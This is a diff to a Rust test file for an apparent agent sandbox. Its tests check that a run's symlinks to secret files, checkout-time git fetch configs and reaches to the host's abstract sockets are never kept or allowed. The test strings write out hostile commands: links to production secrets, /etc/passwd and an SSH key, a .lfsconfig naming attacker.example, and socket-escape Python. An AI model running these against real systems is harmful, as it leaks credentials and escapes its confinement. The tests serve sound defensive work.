@@ -153,7 +153,9 @@ async fn a_denied_files_blob_id_never_reaches_the_run() {
     ];
     let (_, events, seen) = attack(&project, PERMISSIVE, turns).await;
     assert!(seen.contains("src/control.txt"), "{seen}");
-    for blob in &blobs {
+    // Nor the base commit's id, which hashes the root tree: with the rest of the commit known
+    // it checks a guess as the blob's id would.
+    for blob in blobs.iter().chain([&project.head]) {
         let short = &blob[..7];
         assert!(
             !seen.contains(short),
@@ -885,7 +887,8 @@ async fn another_spelling_of_a_protected_name_is_never_kept() {
 }
 
 /// A run commits symbolic links to the denied file (directly, through its directory, from
-/// the root), out of the repository (absolute, by `..`, a Windows drive) and into `.git`,
+/// the root, through a chain of links whose `..` a lexical reading would miss), out of the
+/// repository (absolute, by `..`, a Windows drive) and into `.git`,
 /// and files that make git on the user's machine run or fetch what they name at checkout
 /// (`.gitattributes` with an lfs filter, `.lfsconfig`, `.gitmodules`, in any directory).
 /// None is kept on the branch; a link inside the project and the run's other change are.
@@ -895,6 +898,7 @@ async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
     let write = "ln -s ../config/production-secrets.toml src/leak; ln -s ../config src/conf; \
          ln -s . here; ln -s /etc/passwd abs; ln -s ../../elsewhere/secret src/up; \
          ln -s 'C:/Windows/win.ini' win; ln -s .git/config gitconf; ln -s ../.switchboard src/pol; \
+         mkdir -p a/b && ln -s .. a/b/up && ln -s up/../config/production-secrets.toml a/b/leak && ln -s up/../../../.ssh/id_rsa a/b/key; \
          ln -s lib.rs src/ok; printf '* filter=lfs diff=lfs merge=lfs\\n' > .gitattributes; \
          mkdir -p sub && printf '*.rs filter=evil\\n' > sub/.gitattributes; \
          printf '[lfs]\\n\\turl = https://attacker.example/\\n' > .lfsconfig; \
@@ -907,7 +911,7 @@ async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
         &project.repo,
         &["diff", "--name-only", &project.head, &branch],
     );
-    assert_eq!(changed, "notes.txt\nsrc/ok", "{events}");
+    assert_eq!(changed, "a/b/up\nnotes.txt\nsrc/ok", "{events}");
 }
 
 /// Memory a sandboxed program holds outside its own pages (System V shared memory, made
@@ -1026,10 +1030,15 @@ async fn a_command_agent_never_reaches_the_hosts_abstract_sockets() {
     let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
     let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
     listener.set_nonblocking(true).unwrap();
+    let dgram_name = format!("{name}-dgram");
+    let dgram_addr =
+        std::os::unix::net::SocketAddr::from_abstract_name(dgram_name.as_bytes()).unwrap();
+    let dgram = std::os::unix::net::UnixDatagram::bind_addr(&dgram_addr).unwrap();
+    dgram.set_nonblocking(true).unwrap();
     let sb = Switchboard::with_agents(&[], PERMISSIVE, "");
     let config = sb.dir.path().join("switchboard.toml");
     let code = format!(
-        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX); s.connect(b'\\0{name}'); print('reached')\nexcept OSError as e:\n    print('refused', e)\n"
+        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX); s.connect(b'\\0{name}'); print('reached')\nexcept OSError as e:\n    print('refused', e)\ntry:\n    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'hello', b'\\0{name}-dgram'); print('sent')\nexcept OSError as e:\n    print('refused pair', e)\ntry:\n    a, b = socket.socketpair(); a.send(b'x'); print('pair', b.recv(1))\nexcept OSError as e:\n    print('no stream pair', e)\n"
     );
     // A JSON string is a TOML basic string here (no control character but the newlines).
     let agent = format!(
@@ -1043,8 +1052,38 @@ async fn a_command_agent_never_reaches_the_hosts_abstract_sockets() {
         .unwrap();
     let said = out.to_string();
     assert!(said.contains("refused"), "{said}");
-    assert!(!said.contains("reached"), "{said}");
+    assert!(said.contains("refused pair"), "{said}");
+    assert!(
+        said.contains("pair b'x'"),
+        "a stream pair still works: {said}"
+    );
+    assert!(
+        !said.contains("reached") && !said.contains("sent"),
+        "{said}"
+    );
     assert!(listener.accept().is_err(), "a connection was made");
+    let mut buf = [0u8; 16];
+    assert!(dgram.recv(&mut buf).is_err(), "a datagram arrived");
+}
+
+/// A denied file whose bytes the base also shows elsewhere (an empty `.env` is every empty
+/// file): a run that adds an empty file keeps it, since the id names nothing it could not read.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_run_keeps_a_file_whose_bytes_a_denied_file_shares_with_an_allowed_one() {
+    let mut project = Project::new(true);
+    std::fs::write(project.repo.join(".env"), "").unwrap();
+    std::fs::write(project.repo.join("src/empty.txt"), "").unwrap();
+    git(&project.repo, &["add", "-A"]);
+    git(&project.repo, &["commit", "-q", "-m", "an empty .env"]);
+    project.head = git(&project.repo, &["rev-parse", "HEAD"]);
+    let turns = vec![shell("touch src/__init__.py; echo kept > notes.txt")];
+    let (run, events, _) = attack(&project, PERMISSIVE, turns).await;
+    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
+    let changed = git(
+        &project.repo,
+        &["diff", "--name-only", &project.head, &branch],
+    );
+    assert_eq!(changed, "notes.txt\nsrc/__init__.py", "{events}");
 }
 
 /// A run writes nine loose files of 60 MiB each (one letter repeated: under the 64 MiB kept
